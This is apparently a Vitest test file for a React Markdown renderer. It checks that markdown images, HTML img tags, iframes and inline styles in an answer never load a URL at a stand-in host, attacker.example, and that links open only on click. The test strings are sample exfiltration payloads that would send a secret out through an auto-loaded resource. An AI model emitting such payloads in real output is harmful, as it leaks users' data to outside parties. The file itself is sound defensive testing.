// @vitest-environment happy-dom
import { renderToStaticMarkup } from "react-dom/server";
import { expect, it } from "vitest";
import { Markdown } from "./Markdown";

const thief = "https://attacker.example/take?it=secret";

it.each([
  ["an image", `![a cat](${thief})`],
  ["an image by reference", `![a cat][1]\n\n[1]: ${thief}`],
  ["an image in HTML", `<img src="${thief}">`],
  ["a frame", `<iframe src="${thief}"></iframe>`],
  ["a style", `<p style="background:url(${thief})">cat</p>`],
])("%s in an answer is never loaded", (_, text) => {
  const page = renderToStaticMarkup(<Markdown text={text} />);
  expect(page).not.toMatch(/<(img|iframe|p style|link|script)/);
});

it("a link leads away only on a click", () => {
  const page = renderToStaticMarkup(<Markdown text={`[more](${thief})`} />);
  expect(page).toContain(`<a href="${thief}" target="_blank"`);
  expect(page).toContain("noreferrer");
});
